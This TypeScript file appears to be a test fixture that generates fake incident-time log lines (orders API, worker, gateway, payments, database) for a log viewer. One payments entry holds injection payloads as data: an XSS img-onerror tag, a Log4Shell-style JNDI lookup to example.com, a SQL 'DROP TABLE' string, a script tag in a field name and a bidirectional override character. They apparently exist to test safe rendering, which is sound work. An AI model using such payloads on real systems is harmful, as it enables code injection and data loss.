import type { LogSpan, Severity, TimeRange } from "../../contract.ts";
import { TRACE_ID } from "../trace-search.ts";

/** A line as the fake holds it. */
export type FakeLine = {
  line: number;
  /** Nanoseconds as decimal digits. */
  at: string;
  millis: number;
  severity: Severity;
  service: string;
  /** Place among the sources that were asked. */
  source: number;
  body: LogSpan[];
  /** The message as plain text. */
  text: string;
  fields: [string, string][];
  trace_id: string;
  span_id: string;
  request_id: string;
  dialect: string;
  stream: string;
};

type Kind = {
  severity: Severity;
  service: string;
  dialect: string;
  weight: number;
  /** Share of the range from which on such lines are written. */
  from?: number;
  body: (at: number) => LogSpan[];
  fields: (at: number) => [string, string][];
};

const plain = (text: string): LogSpan[] => [{ text }];
const pick = <T>(values: readonly T[], at: number): T => values[at % values.length] as T;
const ROUTES = ["/orders", "/orders/{id}", "/products", "/carts", "/payments"];
const pause = (at: number): number => 3 + ((at * 7_919) % 480);

/** What a backend in the middle of an incident writes. */
export const KINDS: readonly Kind[] = [
  {
    severity: "info",
    service: "orders-api",
    dialect: "pino",
    weight: 40,
    body: (at) => plain(`request completed in ${pause(at)} ms`),
    fields: (at) => [
      ["http.route", pick(ROUTES, at)],
      ["http.response.status_code", at % 9 === 0 ? "404" : "200"],
      ["duration_ms", String(pause(at))],
      ["pid", "4711"],
    ],
  },
  {
    severity: "debug",
    service: "orders-api",
    dialect: "pino",
    weight: 12,
    body: (at) => plain(`cache ${at % 3 === 0 ? "miss" : "hit"} for product ${1_000 + (at % 400)}`),
    fields: (at) => [
      ["cache.key", `product:${1_000 + (at % 400)}`],
      ["pid", "4711"],
    ],
  },
  {
    severity: "error",
    service: "orders-api",
    dialect: "pino",
    weight: 9,
    from: 0.6,
    body: (at) =>
      plain(`timed out after ${3_000 + (at % 40)} ms waiting for a connection of pool "orders-db"`),
    fields: (at) => [
      ["http.route", pick(ROUTES, at)],
      ["error.type", "PoolTimeout"],
      ["db.pool", "orders-db"],
      ["pool.waiting", String(12 + (at % 30))],
      ["pid", "4711"],
    ],
  },
  {
    severity: "info",
    service: "orders-worker",
    dialect: "slog",
    weight: 12,
    body: (at) => plain(`delivered order ${90_000 + at} to warehouse ${1 + (at % 4)}`),
    fields: (at) => [
      ["order.id", String(90_000 + at)],
      ["warehouse", String(1 + (at % 4))],
      ["attempt", String(1 + (at % 3))],
    ],
  },
  {
    severity: "warn",
    service: "orders-worker",
    dialect: "slog",
    weight: 6,
    from: 0.55,
    body: (at) => [
      { text: "queue is " },
      { text: `${400 + at} jobs`, style: { color: "yellow", bold: true } },
      { text: " long, oldest waits " },
      { text: `${20 + (at % 90)} s`, style: { color: "bright_red" } },
    ],
    fields: (at) => [
      ["queue", "delivery"],
      ["queue.length", String(400 + at)],
    ],
  },
  {
    severity: "info",
    service: "gateway",
    dialect: "nginx",
    weight: 10,
    body: (at) =>
      plain(`10.4.${at % 8}.${at % 250} "GET ${pick(ROUTES, at)} HTTP/1.1" 200 ${at * 3}`),
    fields: (at) => [
      ["client.address", `10.4.${at % 8}.${at % 250}`],
      ["http.response.status_code", "200"],
    ],
  },
  {
    severity: "warn",
    service: "payments",
    dialect: "logback",
    weight: 4,
    body: () => [
      { text: "card " },
      { text: "[card number]", redacted: "card number" },
      { text: " of " },
      { text: "[e-mail]", redacted: "e-mail" },
      { text: " was declined: insufficient funds" },
    ],
    fields: (at) => [
      ["logger", "com.example.payments.Charge"],
      ["thread", `pool-2-thread-${1 + (at % 8)}`],
      ["amount", `${10 + (at % 90)}.90`],
    ],
  },
  {
    severity: "error",
    service: "payments",
    dialect: "logback",
    weight: 2,
    body: () =>
      plain(
        '<img src=x onerror=alert(1)> ${jndi:ldap://example.com/a} "; DROP TABLE orders; -- ‮مرحبا 🚢',
      ),
    fields: () => [
      ["logger", "com.example.payments.Webhook"],
      ["<script>alert('name')</script>", "<b>bold</b>"],
    ],
  },
  {
    severity: "fatal",
    service: "orders-db",
    dialect: "PostgreSQL",
    weight: 1,
    from: 0.7,
    body: () => plain("sorry, too many clients already"),
    fields: () => [
      ["db.namespace", "orders"],
      ["sqlstate", "53300"],
    ],
  },
  {
    severity: "trace",
    service: "gateway",
    dialect: "logfmt",
    weight: 2,
    body: () => [
      { text: "raw frame " },
      { text: "␀", control: true },
      { text: "␇", control: true },
      { text: " end" },
    ],
    fields: () => [["frame.bytes", "512"]],
  },
  {
    severity: "unset",
    service: "",
    dialect: "plain text",
    weight: 2,
    body: (at) =>
      plain(
        at % 2 === 0
          ? `    at Pool.acquire (node_modules/pool/index.js:${at}:17)`
          : "a".repeat(600),
      ),
    fields: () => [],
  },
];

/** Lines over a range, oldest first; the same for the same range. */
export function linesOver(range: TimeRange, amount: number, first = 1): FakeLine[] {
  const length = Math.max(range.end - range.start, 1);
  return Array.from({ length: amount }, (_, at) => {
    const share = (at + 0.5) / amount;
    return lineAt(first + at, range.start + share * length, share);
  });
}

/** One line. */
export function lineAt(number: number, when: number, share: number): FakeLine {
  const kinds = KINDS.filter((kind) => share >= (kind.from ?? 0));
  const total = kinds.reduce((sum, kind) => sum + kind.weight, 0);
  let left = (number * 7_919) % total;
  const kind = kinds.find((each) => (left -= each.weight) < 0) ?? KINDS[0];
  if (!kind) throw new Error("the fake has kinds of lines");
  const millis = Math.round(when);
  const body = kind.body(number);
  // Several lines share one request, and a few of them the trace that the fake can open.
  const request = Math.floor(number / 6);
  const hasRequest = kind.service === "orders-api" || kind.service === "gateway";
  return {
    line: number,
    at: `${millis}${String((number * 104_729) % 1_000_000).padStart(6, "0")}`,
    millis,
    severity: kind.severity,
    service: kind.service,
    source: kind.service === "payments" ? 1 : 0,
    body,
    text: body.map((span) => span.text).join(""),
    fields: kind.fields(number),
    trace_id: hasRequest
      ? request % 5 === 0
        ? TRACE_ID
        : (request * 2_654_435_761).toString(16).padStart(32, "7e")
      : "",
    span_id: hasRequest ? (number * 40_503).toString(16).padStart(16, "c4") : "",
    request_id: hasRequest ? `req-${(request * 48_271).toString(36).padStart(7, "0")}` : "",
    dialect: kind.dialect,
    stream: `{service_name="${kind.service || "unknown"}", host="node-${1 + (number % 3)}"}`,
  };
}

/** The line as its library wrote it. */
export function rawOf(line: FakeLine): string {
  return JSON.stringify({
    time: line.millis,
    level: line.severity,
    service: line.service,
    msg: line.text,
    ...(line.request_id === "" ? {} : { request_id: line.request_id }),
    ...(line.trace_id === "" ? {} : { trace_id: line.trace_id, span_id: line.span_id }),
    ...Object.fromEntries(line.fields),
  });
}
